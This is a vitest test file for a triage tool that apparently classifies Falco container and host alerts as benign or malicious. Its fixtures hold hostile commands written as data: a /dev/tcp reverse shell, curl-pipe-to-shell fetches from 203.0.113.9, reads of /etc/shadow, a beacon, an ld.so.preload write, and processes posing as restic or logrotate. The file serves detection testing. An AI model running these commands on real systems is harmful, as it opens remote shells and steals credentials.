// Triage as a whole: the shipped knowledge, the verdicts on labelled alerts and their bars, the alert that Yarak began
// with, and attacks that dress up as ordinary work.

import { existsSync, globSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { confusion, readScenarios } from '../bench/triage.ts';
import { compileKnowledge } from '../scripts/compile-knowledge.ts';
import { readAlertText } from '../src/alerts/index.ts';
import { DERIVED } from '../src/triage/derived/catalogue.ts';
import { restsOnSpoofable } from '../src/triage/evaluate.ts';
import {
  FindingBuilder,
  joinIncidents,
  shippedKnowledge,
  type Triage,
  triageIncident,
  VERDICTS,
} from '../src/triage/index.ts';

const root = resolve(import.meta.dirname, '..');
const knowledge = shippedKnowledge();

/** Triage of alerts that make one incident. */
function triage(text: string): Triage {
  const builder = new FindingBuilder();
  for (const alert of readAlertText(text).alerts) builder.add(alert);
  const incidents = joinIncidents(builder.finish());
  expect(incidents).toHaveLength(1);
  return triageIncident(incidents[0] as (typeof incidents)[number], knowledge);
}

function alert(rule: string, fields: Record<string, unknown>, second = 0, output = rule): string {
  const time = `2026-01-01T00:00:${String(second).padStart(2, '0')}.000000000Z`;
  return JSON.stringify({
    hostname: 'n1',
    rule,
    priority: 'Notice',
    source: 'syscall',
    output,
    time,
    output_fields: fields,
  });
}

describe('the shipped knowledge', () => {
  it('is compiled afresh and without complaint', () => {
    const { text, problems } = compileKnowledge();
    expect(problems).toEqual([]);
    expect(readFileSync(join(root, 'knowledge/compiled.json'), 'utf8') === text).toBe(true);
  });

  it('confirms no benign cause by what an attacker sets at will', () => {
    const weak = knowledge.causes.filter(({ person, confirm }) => {
      const fields = confirm.flatMap(({ when }) =>
        when.fields.flatMap((field) => DERIVED.get(field)?.from ?? [field]),
      );
      return person === undefined && restsOnSpoofable(fields);
    });
    expect(weak.map(({ id }) => id)).toEqual([]);
  });

  const folder = process.env['YARAK_FALCO_RULES'];
  it.skipIf(folder === undefined)('has a playbook for every stock rule (YARAK_FALCO_RULES)', () => {
    const files = globSync('*.yaml', { cwd: folder }).map((file) => join(folder as string, file));
    const rules = files.flatMap((file) =>
      (parse(readFileSync(file, 'utf8')) as { rule?: string }[]).flatMap((item) => item.rule ?? []),
    );
    expect(rules.length).toBeGreaterThan(90);
    const known = new Set(knowledge.playbooks.map(({ rule }) => rule));
    expect(rules.filter((rule) => !known.has(rule))).toEqual([]);
  });
  const audit = process.env['YARAK_K8S_AUDIT'];
  it.skipIf(audit === undefined)('has a playbook for every audit rule (YARAK_K8S_AUDIT)', () => {
    const rules = (
      parse(readFileSync(join(audit as string, 'rules/k8s_audit_rules.yaml'), 'utf8')) as { rule?: string }[]
    ).flatMap((item) => item.rule ?? []);
    expect(rules.length).toBeGreaterThan(40);
    const known = new Set(knowledge.playbooks.map(({ rule }) => rule));
    expect(rules.filter((rule) => !known.has(rule))).toEqual([]);
  });
});

describe('verdicts on labelled alerts', () => {
  const alerts = process.env['YARAK_ALERTS'] ?? join(root, 'tests/alerts');
  it.each([
    ['labelled', 0.7, 1 / 3],
    ['rich', 0.8, 1 / 2],
  ] as const)('%s.jsonl keeps its bars', (name, spared, cleared) => {
    const file = join(alerts, `${name}.jsonl`);
    expect(existsSync(file)).toBe(true);
    const { benign, malicious } = confusion(readScenarios(file));
    expect(malicious.benign + malicious['likely-benign']).toBe(0);
    const total = VERDICTS.reduce((sum, word) => sum + benign[word], 0);
    expect((total - benign.malicious - benign['likely-malicious']) / total).toBeGreaterThanOrEqual(spared);
    expect((benign.benign + benign['likely-benign']) / total).toBeGreaterThanOrEqual(cleared);
  });
});

describe('the alert that this began with', () => {
  const values = (result: Triage) =>
    result.facts
      .filter(({ from }) => from === 'derived')
      .map(({ text, values: v }) => text.replace(/\{(\d)\}/g, (_, i) => v[Number(i)] ?? ''));

  it('bare: undetermined, leaning benign, with what is missing and what settles it', () => {
    const result = triage(readFileSync(join(root, 'examples/shell-in-container.json'), 'utf8'));
    expect(result.verdict).toMatchObject({ word: 'undetermined', leaning: 'benign' });
    expect(result.benign).toMatchObject(
      [
        {
          id: 'falco-driver-loader',
          strength: 'claimed',
          notShown: ['the image is one that the Falco project publishes'],
        },
        { id: 'debugging-in-container' },
      ].slice(0, 1),
    );
    expect(result.verdict.missing.map(({ field }) => field)).toEqual(
      expect.arrayContaining(['container.image.repository', 'container.image.digest', 'proc.pname']),
    );
    expect(result.verdict.missing[0]).toMatchObject({ askFor: true, command: 'crictl inspect 185304d1bba4' });
    expect(result.verdict.decides?.command).toBe('crictl inspect 185304d1bba4');
    expect(values(result)).toEqual(
      expect.arrayContaining([
        'the command sets the SELinux type modules_object_t',
        expect.stringContaining('driver 7.3.0'),
        expect.stringContaining('kernel 5.4.0-198-generic'),
      ]),
    );
  });

  it('fuller: likely-benign by the image that the runtime names', () => {
    const result = triage(readFileSync(join(root, 'tests/alerts/detect-shell-in-container.jsonl'), 'utf8'));
    expect(result.verdict.word).toBe('likely-benign');
    expect(result.benign.find(({ id }) => id === 'falco-driver-loader')?.strength).toBe('confirmed');
  });

  it('the same command in another image, or with more behind it, is not', () => {
    const line = readFileSync(join(root, 'tests/alerts/detect-shell-in-container.jsonl'), 'utf8');
    const other = line.replaceAll(
      'docker.io/falcosecurity/falco-driver-loader',
      'docker.io/evil/falco-driver-loader',
    );
    expect(triage(other).verdict.word).toBe('undetermined');
    const longer = line.replaceAll('_218.ko\\"', '_218.ko\\"; curl -s http://203.0.113.9/x | sh');
    expect(triage(longer).verdict.word).toMatch(/malicious/);
  });
});

describe('attacks that dress up', () => {
  const pod = {
    'container.id': 'aaaaaaaaaaaa',
    'container.image.repository': 'docker.io/library/nginx',
    'container.image.digest': `sha256:${'0'.repeat(64)}`,
    'k8s.pod.name': 'web-1',
    'k8s.ns.name': 'shop',
    'proc.tty': 0,
    'proc.pname': 'containerd-shim',
    'proc.is_exe_upper_layer': false,
    'proc.exepath': '/usr/bin/dash',
    'proc.name': 'sh',
    'evt.type': 'execve',
  };
  const host = { 'container.id': 'host', 'proc.tty': 0, 'evt.type': 'openat', 'user.name': 'root' };
  it.each<[string, string]>([
    [
      'a reverse shell in an entrypoint',
      alert('R', {
        ...pod,
        'proc.vpid': 1,
        'proc.cmdline': 'sh /entrypoint.sh -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
      }),
    ],
    [
      'a privileged container whose start is all that is seen',
      alert(
        'Launch Privileged Container',
        {
          ...pod,
          'proc.vpid': 1,
          'container.privileged': true,
          'proc.cmdline': 'sleep 99999',
          'proc.name': 'sleep',
        },
        0,
        'Privileged container started | x',
      ),
    ],
    [
      'a probe that reads password hashes',
      [1, 2, 3, 4]
        .map((s) =>
          alert(
            'R',
            {
              ...pod,
              'proc.cmdline': 'cat /etc/shadow',
              'proc.name': 'cat',
              'fd.name': '/etc/shadow',
              'evt.type': 'openat',
            },
            s,
          ),
        )
        .join('\n'),
    ],
    [
      'a beacon at the pace of a probe',
      [1, 2, 3, 4]
        .map((s) =>
          alert('R', { ...pod, 'proc.cmdline': 'curl -s http://203.0.113.9/b', 'proc.name': 'curl' }, s),
        )
        .join('\n'),
    ],
    [
      'a program that calls itself restic, from cron',
      alert('Read sensitive file untrusted', {
        ...host,
        'proc.name': 'restic',
        'proc.cmdline': 'restic backup /etc/shadow',
        'proc.exepath': '/usr/bin/python3.11',
        'fd.name': '/etc/shadow',
        'proc.pname': 'sh',
        'proc.aname[2]': 'cron',
        'proc.aexepath[2]': '/usr/sbin/cron',
      }),
    ],
    [
      'a backup tool by name from /tmp',
      alert('Read sensitive file untrusted', {
        ...host,
        'proc.name': 'restic',
        'proc.cmdline': 'restic backup',
        'proc.exepath': '/tmp/restic',
        'fd.name': '/etc/shadow',
        'proc.aname[2]': 'cron',
      }),
    ],
    [
      'log rotation by name in a root shell',
      alert('Clear Log Activities', {
        ...host,
        'proc.tty': 34816,
        'proc.name': 'logrotate',
        'proc.cmdline': 'logrotate /etc/logrotate.conf',
        'proc.exepath': '/usr/bin/dash',
        'fd.name': '/var/log/auth.log',
        'proc.pname': 'bash',
        'proc.aname[2]': 'sshd',
        'proc.aexepath[2]': '/usr/sbin/sshd',
      }),
    ],
    [
      'a preload library set up by a hook',
      alert('Write below etc', {
        ...pod,
        'evt.type': 'openat',
        'proc.cmdline': 'sh -c echo /x.so > /etc/ld.so.preload',
        'fd.name': '/etc/ld.so.preload',
      }),
    ],
    [
      'a cron job that fetches and runs',
      alert('R', {
        ...host,
        'evt.type': 'execve',
        'proc.name': 'sh',
        'proc.exepath': '/usr/bin/dash',
        'proc.cmdline': 'sh -c curl -s http://203.0.113.9/x | bash',
        'proc.pname': 'cron',
        'proc.pexepath': '/usr/sbin/cron',
      }),
    ],
    [
      'a debugger attached to a running process',
      alert('PTRACE attached to process', {
        ...host,
        'evt.type': 'ptrace',
        'user.uid': 1000,
        'user.name': 'eve',
        'proc.name': 'gdb',
        'proc.exepath': '/usr/bin/gdb',
        'proc.cmdline': 'gdb -p 4711',
      }),
    ],
  ])('%s is never called benign', (_name, text) => {
    expect(triage(text).verdict.word).not.toMatch(/benign/);
  });
});
